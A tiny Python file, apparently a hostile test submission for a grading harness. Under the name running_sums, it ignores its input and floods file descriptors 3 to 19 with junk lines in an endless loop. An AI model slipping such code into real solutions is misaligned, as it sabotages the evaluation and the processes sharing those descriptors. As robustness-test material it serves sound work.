"""Writes lines that are no answers to every descriptor, faster than they can be read."""

import os


def running_sums(numbers):
    while True:
        for number in range(3, 20):
            try:
                os.write(number, b" {}\n" * 10000)
            except OSError:
                pass
